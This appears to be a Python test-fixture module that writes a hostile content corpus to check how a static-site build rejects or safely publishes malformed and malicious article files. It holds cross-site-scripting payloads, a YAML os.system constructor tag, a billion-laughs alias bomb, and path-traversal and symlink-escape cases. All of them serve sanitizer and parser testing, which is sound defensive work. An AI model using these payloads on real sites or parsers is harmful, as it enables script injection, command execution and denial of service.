"""The hostile article corpus: files an editor, a tool or an attacker might drop into content/.

Each case says what a correct build does with it: reject it with one precise diagnostic
(``path:line: message``) or publish it with a safe rendering. The files are written by code, so
the binary cases (NUL, GB18030, Big5, UTF-16) stay out of git and the large cases can be sized.
All published cases sit in one region and year that no fixture article uses, so they cannot
change any fixture article's page (neighbours and related lists are per region, year and tag).
"""

from __future__ import annotations

import codecs
import os
from dataclasses import dataclass, field
from pathlib import Path

HOSTILE_DIR = "2019/hostile"  # under content/articles/
REGION = "西藏/拉萨"
DATE = "2019-03-01"
SECRET = "OUTSIDE-CONTENT-SECRET-7f3a"  # only reachable through links out of content/

# Raw HTML an attacker would paste into a body; the sanitizer must leave none of it active.
HOSTILE_BODY = """\
开头一段正常文字。

<script>alert("script")</script>

<iframe src="https://example.invalid/frame"></iframe>

<img src="x.png" onerror="alert('onerror')" alt="坏图">

<svg onload="alert('svg')"><circle r="5"/></svg>

<a href="javascript:alert('href')">脚本链接</a>

<a href="JaVaScRiPt:alert('case')">大小写</a>

<a href="&#106;avascript:alert('entity')">实体编码</a>

<a href=" javascript:alert('space')">空格</a>

[markdown 链接](javascript:alert('md'))

![markdown 图片](javascript:alert('mdimg'))

<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">data 链接</a>

<a href="vbscript:msgbox('vb')">vbscript</a>

<object data="evil.swf"></object><embed src="evil.swf">

<form action="https://example.invalid/steal"><input name="p"></form>

<meta http-equiv="refresh" content="0;url=javascript:alert('meta')">

<base href="https://example.invalid/">

<style>body { display: none }</style>

<p style="background:url(javascript:alert('css'))" onclick="alert('click')">带属性的段落</p>

<details open ontoggle="alert('toggle')"><summary>展开</summary></details>

<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>

结尾一段正常文字。
"""


@dataclass(frozen=True)
class Rejected:
    """A file the build must skip, with this diagnostic."""

    name: str
    file: str  # relative to content/articles/
    line: int | None  # the line the diagnostic must name (None: the whole file)
    message: str  # a fragment of the diagnostic's message


@dataclass(frozen=True)
class Published:
    """A file the build must publish safely."""

    name: str
    file: str  # relative to content/articles/
    url: str  # site-relative URL of its page
    title: str  # the heading a reader must see
    shows: tuple[str, ...] = ()  # text the page body must show


@dataclass
class Corpus:
    rejected: list[Rejected] = field(default_factory=list)
    published: list[Published] = field(default_factory=list)
    silent: list[str] = field(default_factory=list)  # files that are neither (never read)
    bulletin_warnings: list[Rejected] = field(default_factory=list)  # file relative to content/
    bulletin_pages: list[str] = field(default_factory=list)  # site-relative URLs

    @property
    def names(self) -> list[str]:
        return [c.name for c in self.rejected] + [c.name for c in self.published]


def doc(front: str, body: str = "正文。\n", *, title: str | None = "标题") -> str:
    """An article: ``front`` is YAML lines added after title/date/region."""
    head = f"title: {title}\ndate: {DATE}\nregion: {REGION}\n" if title is not None else ""
    return f"---\n{head}{front}---\n\n{body}"


def write_corpus(content_dir: Path, outside: Path) -> Corpus:
    """Write every hostile case under ``content_dir/articles/HOSTILE_DIR``.

    ``outside`` is a folder beside the project holding files that links point at; nothing in it
    may be published.
    """
    base = content_dir.absolute() / "articles" / HOSTILE_DIR
    outside = outside.absolute()
    base.mkdir(parents=True, exist_ok=True)
    corpus = Corpus()

    def put(name: str, data: str | bytes) -> str:
        path = base / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return f"{HOSTILE_DIR}/{name}"

    def reject(case: str, name: str, data: str | bytes, line: int | None, message: str) -> None:
        corpus.rejected.append(Rejected(case, put(name, data), line, message))

    def publish(case: str, name: str, data: str | bytes, slug: str, title: str,
                shows: tuple[str, ...] = ()) -> None:
        url = f"articles/{HOSTILE_DIR}/{slug}/"
        corpus.published.append(Published(case, put(name, data), url, title, shows))

    # --- YAML that does not parse, or is not a mapping
    reject("yaml-unclosed-list", "yaml-list.md", doc("tags: [未闭合\n"), 6, "invalid YAML")
    reject("yaml-tab", "yaml-tab.md", doc("\tkind: news\n"), 5, "invalid YAML")
    reject("yaml-python-tag", "yaml-python.md",
           doc("summary: !!python/object/apply:os.system ['echo pwned > pwned.txt']\n"), 5,
           "could not determine a constructor")
    reject("yaml-not-mapping", "yaml-seq.md", "---\n- 一\n- 二\n---\n\n正文\n", 2,
           "front-matter must be a mapping")
    reject("yaml-scalar", "yaml-scalar.md", "---\n只是一句话\n---\n\n正文\n", 2,
           "front-matter must be a mapping")
    laughs = "".join(f"l{i}: &l{i} [*l{i - 1}, *l{i - 1}, *l{i - 1}, *l{i - 1}]\n"
                     for i in range(1, 12))
    reject("yaml-billion-laughs", "yaml-laughs.md",
           doc("l0: &l0 [哈]\n" + laughs + "authors: *l11\n"), 6, "YAML aliases expand to more than")

    # --- wrong types
    reject("type-title-mapping", "type-title.md", doc("", title="{a: 1}"), 2, "'title' must be text")
    reject("type-title-bool", "type-title-bool.md", doc("", title="No"), 2, "'title' must be text")
    reject("type-tags-int", "type-tags.md", doc("tags: 5\n"), 5, "'tags' must be a list")
    reject("type-draft-text", "type-draft.md", doc("draft: 'maybe'\n"), 5,
           "'draft' must be true or false")
    reject("type-region-list", "type-region.md",
           f"---\ntitle: 地区\ndate: {DATE}\nregion: [西藏]\n---\n正文\n", 4,
           "'region' must be a path of place names")
    reject("type-date-int", "type-date-int.md",
           f"---\ntitle: 日期\ndate: 20190301\nregion: {REGION}\n---\n正文\n", 3, "malformed date")
    reject("type-year-huge", "type-year.md",
           f"---\ntitle: 年份\nyear: 99999999999999999999\nregion: {REGION}\n---\n正文\n", 3,
           "'year' must be a four-digit year")

    # --- dates that do not exist
    for case, value in (("date-feb-30", "2024-02-30"), ("date-month-13", "2019-13-01"),
                        ("date-year-0", "0000-01-01")):
        reject(case, f"{case}.md",
               f"---\ntitle: 日期\ndate: {value}\nregion: {REGION}\n---\n正文\n", 3,
               f"no such date '{value}'")

    # --- fences
    reject("fence-unclosed", "fence-unclosed.md",
           f"---\ntitle: 没有结束\ndate: {DATE}\nregion: {REGION}\n\n正文\n", 1,
           "front-matter is not closed")
    reject("fence-missing", "fence-missing.md", "只有正文，没有前言。\n", 1, "no front-matter")
    reject("fence-empty-file", "fence-empty.md", "", 1, "no front-matter")
    reject("fence-empty-yaml", "fence-empty-yaml.md", "---\n---\n正文\n", 1,
           "missing required field 'title'")

    # --- bytes that are not UTF-8 text
    body_gb = doc("", "“两节”送温暖，工会在行动。\n", title="送温暖")
    reject("bytes-nul", "bytes-nul.md", doc("", "正文\x00二进制\n").encode(), 7, "NUL bytes")
    reject("bytes-gb18030", "bytes-gb18030.md", body_gb.encode("gb18030"), 2, "not UTF-8")
    big5 = "---\ntitle: 送溫暖\ndate: 2019-03-01\nregion: 西藏/拉薩\n---\n\n兩節送溫暖\n"
    reject("bytes-big5", "bytes-big5.md", big5.encode("big5"), 2, "not UTF-8")
    reject("bytes-utf16", "bytes-utf16.md", codecs.BOM_UTF16_LE + body_gb.encode("utf-16-le"),
           1, "UTF-16")

    # --- two articles with the same URL: the first in path order keeps it
    publish("slug-first", "same slug.md", doc("", title="同名甲"), "same-slug", "同名甲")
    reject("slug-second-by-name", "same-slug.md", doc("", title="同名乙"), None, "duplicate URL")
    publish("slug-field-first", "slug-a.md", doc("slug: chosen\n", title="指定甲"), "chosen", "指定甲")
    reject("slug-field-second", "slug-b.md", doc("slug: chosen\n", title="指定乙"), None,
           "duplicate URL")
    reject("slug-field-traversal", "slug-dots.md", doc("slug: ../../etc\n"), 5,
           "'slug' must be lowercase ASCII")

    # --- titles and names that look like paths
    publish("title-dotdot", "dotdot.md", doc("", title="'../../etc'"), "dotdot", "../../etc")
    publish("title-slash", "slash.md", doc("", title="'/'"), "slash", "/")
    publish("title-punctuation", "！？。.md", doc("", title="'！？。……——'"), "item", "！？。……——")
    publish("name-dotdot-encoded", "..%2f..%2fetc.md", doc("", title="编码"), "2f-2fetc", "编码")
    publish("name-html", "<script>x.md", doc("", title="文件名"), "script-x", "文件名")

    # --- invisible characters: dropped from fields, kept harmless in the body
    publish("zero-width-bidi-title", "invisible.md",
            doc("subtitle: \"副\u200b标\u202e题\"\n", title="\"无\u200b锡\u202e送\u2066温暖\ufeff\""),
            "invisible", "无锡送温暖", ("正文",))
    publish("zero-width-region", "invisible-region.md",
            f"---\ntitle: 地区有零宽字符\ndate: {DATE}\nregion: \"西\u200b藏/拉\u200d萨\"\n---\n正文\n",
            "invisible-region", "地区有零宽字符")
    publish("control-chars-body", "control.md",
            doc("", "正文\x1b[31m有\x0c控制\x7f字符\ufffe和\uffff非字符。\n", title="控制字符"),
            "control", "控制字符", ("控制",))

    # --- encodings and line ends that are fine
    publish("bom", "bom.md", codecs.BOM_UTF8 + doc("", "有BOM的文件。\n", title="BOM").encode(),
            "bom", "BOM", ("有BOM的文件。",))
    publish("crlf", "crlf.md", doc("", "第一段。\n\n第二段。\n", title="CRLF").replace("\n", "\r\n"),
            "crlf", "CRLF", ("第一段。", "第二段。"))
    publish("lone-cr", "cr.md", doc("", "旧式换行。\n", title="CR").replace("\n", "\r"),
            "cr", "CR", ("旧式换行。",))

    # --- raw HTML in the body and in fields
    publish("html-body", "html-body.md", doc("", HOSTILE_BODY, title="恶意正文"),
            "html-body", "恶意正文", ("开头一段正常文字。", "结尾一段正常文字。", "脚本链接"))
    publish("html-fields", "html-fields.md",
            doc("subtitle: '<img src=x onerror=alert(1)>'\n"
                "authors: ['<svg onload=alert(2)>']\n"
                "tags: ['<script>alert(3)</script>']\n"
                "summary: '\"><script>alert(4)</script>'\n",
                title="'<script>alert(0)</script>'"),
            "html-fields", "<script>alert(0)</script>")

    # --- links out of content/
    outside.mkdir(parents=True, exist_ok=True)
    secret_file = outside / "secret.md"
    secret_file.write_text(doc("", f"{SECRET}\n", title=SECRET), encoding="utf-8")
    (outside / "secrets").mkdir(exist_ok=True)
    (outside / "secrets" / "inner.md").write_text(doc("", f"{SECRET}\n", title=SECRET),
                                                  encoding="utf-8")
    os.symlink(secret_file, base / "link-out.md")
    corpus.rejected.append(Rejected("symlink-outside", f"{HOSTILE_DIR}/link-out.md", None,
                                    "link points outside content/"))
    os.symlink(os.path.relpath(secret_file, base), base / "link-relative.md")
    corpus.rejected.append(Rejected("symlink-relative-outside", f"{HOSTILE_DIR}/link-relative.md",
                                    None, "link points outside content/"))
    os.symlink(outside / "secrets", base / "linked-folder")
    corpus.silent.append(f"{HOSTILE_DIR}/linked-folder/inner.md")
    os.symlink(base / "no-such-file.md", base / "link-dangling.md")
    corpus.rejected.append(Rejected("symlink-dangling", f"{HOSTILE_DIR}/link-dangling.md", None,
                                    "cannot read"))
    os.symlink(base / "loop-b.md", base / "loop-a.md")
    os.symlink(base / "loop-a.md", base / "loop-b.md")
    corpus.rejected.append(Rejected("symlink-loop-a", f"{HOSTILE_DIR}/loop-a.md", None,
                                    "symbolic link loop"))
    corpus.rejected.append(Rejected("symlink-loop-b", f"{HOSTILE_DIR}/loop-b.md", None,
                                    "symbolic link loop"))
    _write_bulletins(content_dir.absolute() / "bulletins", secret_file, corpus)
    return corpus


def _write_bulletins(folder: Path, secret_file: Path, corpus: Corpus) -> None:
    """Raw bulletins kept under content/bulletins/ with their manifests, hostile ones too."""
    folder.mkdir(parents=True, exist_ok=True)

    def put(name: str, data: str | bytes) -> None:
        (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)

    def warn(name: str, message: str) -> None:
        corpus.bulletin_warnings.append(Rejected(name, f"bulletins/{name}", None, message))

    put("hostile-b.txt", "<script>alert('bulletin')</script>\n无\u200b锡\u202e送温暖\r\n第二行\n")
    put("hostile-b.json", '{"editors": ["<script>alert(2)</script>"], "page": {"a": 1}, "date": 5}')
    put("no-manifest.txt", "没有清单的原版。\n")
    put("list-manifest.txt", "清单不是对象。\n")
    put("list-manifest.json", "[1, 2]")
    put("broken-json.txt", "清单坏了。\n")
    put("broken-json.json", "{not json")
    warn("broken-json.json", "unreadable manifest")
    put("editors-int.txt", "编辑不是列表。\n")
    put("editors-int.json", '{"editors": 5}')
    put("same name.txt", "同名原版一。\n")
    put("same-name.txt", "同名原版二。\n")
    warn("same-name.txt", "duplicate URL /bulletins/same-name/")
    put("gb18030.txt", "国标编码的原版。\n".encode("gb18030"))
    warn("gb18030.txt", "cannot read bulletin")
    os.symlink(secret_file, folder / "link-out.txt")
    warn("link-out.txt", "link points outside content/")
    os.symlink(secret_file.with_suffix(".json"), folder / "no-manifest.json")  # dangling, outside
    corpus.bulletin_pages += [f"bulletins/{slug}/" for slug in (
        "hostile-b", "no-manifest", "list-manifest", "broken-json", "editors-int", "same-name")]
